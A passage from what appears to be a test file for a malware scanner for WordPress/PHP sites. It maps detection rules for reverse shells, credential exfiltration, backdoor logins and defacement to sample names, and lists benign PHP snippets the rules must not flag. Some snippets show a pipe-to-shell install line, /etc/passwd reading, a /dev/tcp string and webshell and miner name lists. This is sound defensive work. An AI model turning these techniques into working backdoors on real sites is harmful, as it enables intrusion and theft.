    ("SPAMGEAR_HOSTINF_IndexSwapDeface", "deface_docroot_b64"),
    ("SPAMGEAR_HOSTINF_SocketAsShellDescriptors", "revshell_proc_open_bash"),
    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "bindshell_socket"),
    ("SPAMGEAR_HOSTINF_WpMailOverPostedList", "mailer_wp_mail_post_list"),
    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_discord_webhook"),
    ("SPAMGEAR_HOSTINF_IncludeIconFile", "include_hidden_dot_php"),
    ("SPAMGEAR_HOSTINF_XmlrpcBruteForcer", "xmlrpc_brute"),
    ("SPAMGEAR_HOSTINF_LoginPasswordLogger", "wp_login_password_logger"),
    ("SPAMGEAR_HOSTINF_MasterPasswordAuth", "wp_master_password"),
    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_popen_relay"),
    ("SPAMGEAR_HOSTINF_ConfigCredsSentOut", "wpconfig_stealer"),
    ("SPAMGEAR_HOSTINF_HiddenOptionLinks", "hidden_links_option"),
    ("SPAMGEAR_HOSTINF_IncludeIconFile", "include_dot_jpg"),
    ("SPAMGEAR_HOSTINF_ScriptedReverseShell", "revshell_python_exec"),
    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_header_creds"),
    ("SPAMGEAR_HOSTINF_OpenRestRouteSink", "wp_rest_route_shell"),
    ("SPAMGEAR_HOSTINF_PostDumpMailedRedirect", "phish_print_r_post_mail"),
    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "reinfect_html_links"),
    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "bindshell_stream_server"),
    ("SPAMGEAR_HOSTINF_WpRoleEscalationHook", "wp_user_register_promote"),
    ("SPAMGEAR_HOSTINF_WpRoleEscalationHook", "wp_user_has_cap_cookie"),
    ("SPAMGEAR_HOSTINF_PostDumpMailedRedirect", "phish_json_store"),
    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_telegram_b64_token"),
    ("SPAMGEAR_HOSTINF_IncludeIconFile", "reinfect_sibling_functions_php"),
    ("SPAMGEAR_HOSTINF_WriteBackTimestomp", "reinfect_js_prepend_docwrite"),
    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_fread_exec_array"),
    ("SPAMGEAR_HOSTINF_UploadFieldAsFunction", "files_name_as_function"),
    ("SPAMGEAR_HOSTINF_RawSqlFromInput", "sql_console_hidden_menu"),
    ("SPAMGEAR_HOSTINF_CvvAndPasswordCapture", "phish_bank_card_and_password"),
]

#: (rule, legitimate code): the rule must not hit it, as written or at the top of a plugin file.
NEAR_MISSES: list[tuple[str, str]] = [
    (
        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
        "<?php\nfunction wp_install_admin( $user_name, $user_email, $user_password ) {\n\t$user_id = wp_create_user( $user_name, $user_password, $user_email );\n\t$user = new WP_User( $user_id );\n\t$user->set_role( 'administrator' );\n\treturn $user_id;\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
        "<?php\nclass Test_Admin_Menu extends WP_UnitTestCase {\n\tpublic function test_admin_sees_menu() {\n\t\t$id = wp_create_user( 'tester', 'password', 'tester@example.org' );\n\t\t$u = new WP_User( $id );\n\t\t$u->set_role( 'administrator' );\n\t\t$this->assertTrue( user_can( $id, 'manage_options' ) );\n\t}\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
        "<?php\nif ( ! username_exists( 'shop_bot' ) && current_user_can( 'create_users' ) ) {\n\t$id = wp_insert_user( array( 'user_login' => 'shop_bot', 'user_pass' => wp_generate_password( 24 ), 'role' => 'shop_manager' ) );\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpAdminSqlInsert",
        '<?php\n$wpdb->query( $wpdb->prepare( "INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES (%d, %s, %s)", $new_id, $wpdb->prefix . \'capabilities\', \'a:1:{s:13:"administrator";b:1;}\' ) );\n$wpdb->query( $wpdb->prepare( "UPDATE {$wpdb->users} SET user_pass = %s WHERE ID = %d", wp_hash_password( $pass ), $new_id ) );\n',
    ),
    (
        "SPAMGEAR_HOSTINF_EncodedSinkVarOnInput",
        "<?php\n// rot13 demo for the puzzle page\n$hint = str_rot13('riny');\necho '<p>' . htmlspecialchars($hint) . '</p>';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_SocketBodyEval",
        "<?php\n$fp = fsockopen('api.example.org', 80, $errno, $errstr, 10);\nfwrite($fp, \"GET /v1/status HTTP/1.0\\r\\nHost: api.example.org\\r\\n\\r\\n\");\n$resp = '';\nwhile (!feof($fp)) { $resp .= fgets($fp, 1024); }\nfclose($fp);\n$parts = explode(\"\\r\\n\\r\\n\", $resp, 2);\n$status = json_decode($parts[1], true);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_CopyFromInputSource",
        "<?php\nif (isset($_FILES['logo']) && is_uploaded_file($_FILES['logo']['tmp_name'])) {\n    copy($_FILES['logo']['tmp_name'], $upload_dir . '/logo.png');\n}\n$name = sanitize_file_name($_POST['name']);\ncopy($template, $dir . '/' . $name);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_AllowUrlIncludeInclude",
        "<?php\nif (!ini_get('allow_url_include')) { ini_set('allow_url_fopen', '0'); }\ninclude $template_file;\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WriteBackTimestomp",
        "<?php\nforeach (glob($src_dir . '/*.php') as $src) {\n    $dst = $backup_dir . '/' . basename($src);\n    $data = file_get_contents($src);\n    file_put_contents($dst, $data);\n    touch($dst, filemtime($src));\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WriteBackTimestomp",
        "<?php\nforeach (scandir($cache_dir) as $f) {\n    $page = render_page($f);\n    file_put_contents($cache_dir . '/' . $f, $page . $footer);\n    touch($cache_dir . '/' . $f, time());\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_DecodedWriteTimestomp",
        "<?php\n$path = $upload_dir . '/avatar.png';\nfile_put_contents($path, base64_decode($_POST['avatar_data']));\ntouch($path);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_SelfCopyHidden",
        "<?php\n$header = file_get_contents(__FILE__);\npreg_match('/Version:\\s*(\\S+)/', $header, $m);\nfile_put_contents($cache_dir . '/version.txt', $m[1]);\nchmod($cache_dir . '/version.txt', 0644);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_CronDownloadExec",
        "<?php\necho '<p>Install the agent with: <code>curl -sSL https://get.example.com/agent | sh</code></p>';\n$jobs = shell_exec('crontab -l 2>/dev/null');\necho '<pre>' . htmlspecialchars($jobs) . '</pre>';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_ScriptTagFileInjector",
        "<?php\nadd_action('wp_head', function () {\n    echo '<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-XXXX\"></script>';\n});\nforeach (glob($asset_dir . '/*.js') as $f) {\n    $min = minify_js(file_get_contents($f));\n    file_put_contents($f, $min);\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_PostContentScriptAppend",
        '<?php\n$wpdb->query($wpdb->prepare("UPDATE {$wpdb->posts} SET post_content = REPLACE(post_content, %s, %s)", $old_url, $new_url));\n',
    ),
    (
        "SPAMGEAR_HOSTINF_HomeDirWalker",
        "<?php\n$users = array();\nforeach (file('/etc/passwd') as $line) {\n    $f = explode(':', $line);\n    if ((int) $f[2] >= 1000) { $users[] = $f[0]; }\n}\necho implode(', ', $users);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_SocketCommandLoop",
        '<?php\n$smtp = fsockopen($host, 25, $errno, $errstr, 15);\n$line = fgets($smtp, 515);\nfputs($smtp, "EHLO " . gethostname() . "\\r\\n");\nwhile ($line = fgets($smtp, 515)) { if (substr($line, 3, 1) == \' \') break; }\nfputs($smtp, "QUIT\\r\\n");\n',
    ),
    (
        "SPAMGEAR_HOSTINF_DevTcpShell",
        "<?php\n$probe = \"/dev/tcp/$host/$port\";\necho 'Bash can test a port with ' . htmlspecialchars($probe);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_JsonBodyMailLoop",
        "<?php\n$data = json_decode(file_get_contents('php://input'), true);\n$body = '';\nforeach ($data['items'] as $item) { $body .= $item['sku'] . \"\\n\"; }\n$to = get_option('admin_email');\nmail($to, 'New order', $body, 'From: shop@' . $_SERVER['SERVER_NAME']);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_TelegramCredentialExfil",
        "<?php\n$token = get_option('cf_tg_token');\n$chat = get_option('cf_tg_chat');\n$text = \"New message from \" . sanitize_text_field($_POST['your-name']) . \": \" . sanitize_textarea_field($_POST['your-message']);\nwp_remote_post(\"https://api.telegram.org/bot{$token}/sendMessage\", array('body' => array('chat_id' => $chat, 'text' => $text)));\n",
    ),
    (
        "SPAMGEAR_HOSTINF_CardFieldsEncodedExfil",
        "<?php\n$payload = array('number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc'], 'amount' => $order->get_total());\n$resp = wp_remote_post('https://api.gateway.example/charge', array(\n    'headers' => array('Authorization' => 'Basic ' . base64_encode($this->api_key . ':')),\n    'body' => $payload,\n));\n",
    ),
    (
        "SPAMGEAR_HOSTINF_IncludeHexPath",
        "<?php\n$sep = \"\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\";\ninclude __DIR__ . '/templates/header.php';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_IncludeIconFile",
        "<?php\n$logo = $theme_dir . '/images/logo.png';\ninclude $header_file;\necho '<link rel=\"icon\" href=\"favicon.ico\">';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_UploadedFileIncluded",
        "<?php\nif (move_uploaded_file($_FILES['csv']['tmp_name'], $target)) {\n    $rows = array_map('str_getcsv', file($target));\n    include 'views/import-done.php';\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_ShellNameHunter",
        "<?php\n$patterns = array('wso', 'c99', 'r57', 'b374k');\nforeach ($files as $f) {\n    foreach ($patterns as $p) { if (stripos(file_get_contents($f), $p) !== false) { $report[] = $f; } }\n}\necho count($report) . ' suspicious files; review them in the scanner screen.';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_MinerKiller",
        "<?php\n// Known miner names shown as a warning in the process list screen\n$bad = array('xmrig', 'kdevtmpfsi');\n$ps = shell_exec('ps aux');\nforeach ($bad as $b) { if (strpos($ps, $b) !== false) echo \"Warning: $b is running\"; }\n",
    ),
    (
        "SPAMGEAR_HOSTINF_HtaccessLocker",
        "<?php\n$rules = \"<FilesMatch \\\"\\\\.(php|phtml|php5)$\\\">\\nDeny from all\\n</FilesMatch>\\n\";\nfile_put_contents($upload_dir . '/.htaccess', $rules);\nchmod($upload_dir . '/.htaccess', 0644);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpAdminPasswordFromInput",
        "<?php\nif ( isset( $_POST['pass1'] ) && wp_verify_nonce( $_POST['_wpnonce'], 'profile' ) ) {\n\twp_update_user( array( 'ID' => get_current_user_id(), 'user_pass' => $_POST['pass1'] ) );\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpOpenAdminRegistration",
        "<?php\nfunction myplugin_activate() {\n\tupdate_option( 'users_can_register', 1 );\n\tupdate_option( 'default_role', 'subscriber' );\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_IncludeDataWrapper",
        "<?php\n$img = 'data:image/png;base64,' . base64_encode($png);\ninclude 'templates/avatar.php';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_IncludeDataWrapper",
        "<?php\nfunction compiled_renderer($php) {\n    return include('data://text/plain,' . urlencode($php));\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_RemoteCreateFunction",
        "<?php\n$double = create_function('$a', 'return $a * 2;');\n$body = file_get_contents('https://api.example.org/v1/items');\n",
    ),
    (
        "SPAMGEAR_HOSTINF_OpenTagCodeInjector",
        "<?php\n$c = file_get_contents($src);\n$c = str_replace('<?php', \"<?php\\n// generated by build.php, do not edit\", $c);\nfile_put_contents($dst, $c);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_HiddenPrependWriter",
        "<?php\n$line = \"auto_prepend_file = '\" . ABSPATH . \"wordfence-waf.php'\\n\";\nfile_put_contents(ABSPATH . '.user.ini', $line, FILE_APPEND);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_IndexSwapDeface",
        "<?php\nrename($root . '/index.php', $root . '/index.php.maint');\nfile_put_contents($root . '/index.html', $maintenance_page);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_SocketAsShellDescriptors",
        "<?php\n$fp = fsockopen($host, 80, $errno, $errstr, 5);\nfclose($fp);\n$proc = proc_open($cmd, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pipes);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpMailOverPostedList",
        "<?php\ncheck_admin_referer( 'invite_friends' );\n$emails = explode( ',', sanitize_text_field( $_POST['emails'] ) );\nforeach ( $emails as $e ) {\n\twp_mail( trim( $e ), 'Join us', 'Your friend invited you.' );\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpMailOverPostedList",
        "<?php\n$emails = explode( \",\", $_POST['emails'] );\nforeach ( $emails as $e ) {\n\twp_mail( $e, 'You are invited', $message_template );\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_XmlrpcBruteForcer",
        "<?php\n$methods['wp.getUsersBlogs'] = 'this:wp_getUsersBlogs';\n// see xmlrpc.php for the entry point\n$resp = wp_remote_post($endpoint, array('body' => $xml));\n",
    ),
    (
        "SPAMGEAR_HOSTINF_CvvAndPasswordCapture",
        "<?php\n$card = array('number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc']);\n$email = sanitize_email($_POST['billing_email']);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_TelegramCredentialExfil",
        "<?php\n$hook = get_option('discord_webhook');\nwp_remote_post('https://discord.com/api/webhooks/' . $hook, array('body' => array('content' => 'New comment by ' . $_POST['author'])));\n",
    ),
    (
        "SPAMGEAR_HOSTINF_LoginPasswordLogger",
        "<?php\nadd_action('wp_login_failed', function ($username) {\n    $ip = $_SERVER['REMOTE_ADDR'];\n    error_log(sprintf('failed login for %s from %s', sanitize_user($username), $ip));\n});\nadd_action('wp_login', function ($login, $user) {\n    update_user_meta($user->ID, 'last_login', time());\n}, 10, 2);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_MasterPasswordAuth",
        "<?php\nadd_filter('authenticate', function ($user, $username, $password) {\n    if ($password === '') {\n        return new WP_Error('empty_password', __('The password field is empty.'));\n    }\n    $u = get_user_by('login', $username);\n    return $user;\n}, 30, 3);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_ConfigCredsSentOut",
        "<?php\n$cfg = file_get_contents(ABSPATH . 'wp-config.php');\nif (strpos($cfg, 'DB_PASSWORD') === false) { echo 'wp-config.php looks incomplete'; }\n$resp = wp_remote_get($update_url);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_HiddenOptionLinks",
        "<?php\nif (isset($_POST['promo_text']) && check_admin_referer('promo_save')) { update_option('promo_text', wp_kses_post($_POST['promo_text'])); }\nadd_filter('the_content', function ($c) {\n    return $c . '<div class=\"promo\" style=\"display:none\">' . get_option('promo_text') . '</div>';\n});\n",
    ),
    (
        "SPAMGEAR_HOSTINF_ScriptedReverseShell",
        "<?php\n// Python helper that talks to the local daemon socket\n$out = shell_exec('python3 ' . escapeshellarg(__DIR__ . '/helper.py') . ' --status');\necho '<pre>socket.socket is used by the helper</pre>';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_IncludeIconFile",
        "<?php\n$thumb = $upload_dir['basedir'] . '/thumbs/.cache-thumb.jpg';\ninclude __DIR__ . '/views/gallery.php';\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
        "<?php\n$login = sanitize_user( $_SERVER['HTTP_X_REMOTE_USER'] );\nif ( $login && ! username_exists( $login ) && current_user_can( 'create_users' ) ) {\n\twp_insert_user( array( 'user_login' => $login, 'user_pass' => wp_generate_password(), 'role' => 'subscriber' ) );\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_OpenRestRouteSink",
        "<?php\nadd_action('rest_api_init', function () {\n    register_rest_route('myplugin/v1', '/ping', array(\n        'methods' => 'GET',\n        'callback' => function ($r) { return array('pong' => sanitize_text_field($r['msg'])); },\n        'permission_callback' => '__return_true',\n    ));\n});\n",
    ),
    (
        "SPAMGEAR_HOSTINF_PostDumpMailedRedirect",
        "<?php\n$body = print_r($_POST, true) . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\nmail('office@example.org', 'Contact form', $body);\nheader('Location: thank-you.html');\n",
    ),
    (
        "SPAMGEAR_HOSTINF_ScriptTagFileInjector",
        "<?php\nforeach (glob($tpl_dir . '/*.html') as $f) {\n    $c = file_get_contents($f);\n    file_put_contents($f, str_replace('</body>', $footer_html . '</body>', $c));\n}\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpRoleEscalationHook",
        "<?php\nadd_action('user_register', function ($id) {\n    $u = new WP_User($id);\n    $u->set_role(get_option('default_role'));\n});\nadd_filter('user_has_cap', function ($all, $caps, $args, $user) {\n    if (in_array('shop_manager', (array) $user->roles, true)) { $all['edit_products'] = true; }\n    return $all;\n}, 10, 4);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_UploadFieldAsFunction",
        "<?php\n$name = sanitize_file_name($_FILES['f']['name']);\n$type = wp_check_filetype($name);\n",
    ),
    (
        "SPAMGEAR_HOSTINF_RawSqlFromInput",
        "<?php\nif (current_user_can('manage_options') && check_admin_referer('run_sql')) {\n    print_r($wpdb->get_results(stripslashes($_POST['q'])));\n}\n$rows = $wpdb->get_results($wpdb->prepare(\"SELECT * FROM {$wpdb->posts} WHERE ID = %d\", $_GET['id']));\n",
    ),
    (
        "SPAMGEAR_HOSTINF_PostDumpMailedRedirect",
        "<?php\nfile_put_contents(__DIR__ . '/entries/' . time() . '.json', json_encode($_POST));\nheader('Location: /thanks.html');\n",
    ),
    (
        "SPAMGEAR_HOSTINF_WpRoleEscalationHook",
        "<?php\nadd_filter('user_has_cap', function ($all) {\n    if (isset($_GET['page']) && $_GET['page'] === 'myplugin-settings' && !empty($all['edit_pages'])) { $all['manage_options'] = true; }\n    return $all;\n});\n",
    ),
]

CASES: list[tuple[str, bytes, bool]] = [
    *[(rule, form(VARIANTS[name]), True) for rule, name in HITS for form in (plain, padded, embedded)],
    *[(rule, form(code), False) for rule, code in NEAR_MISSES for form in (plain, embedded)],
]
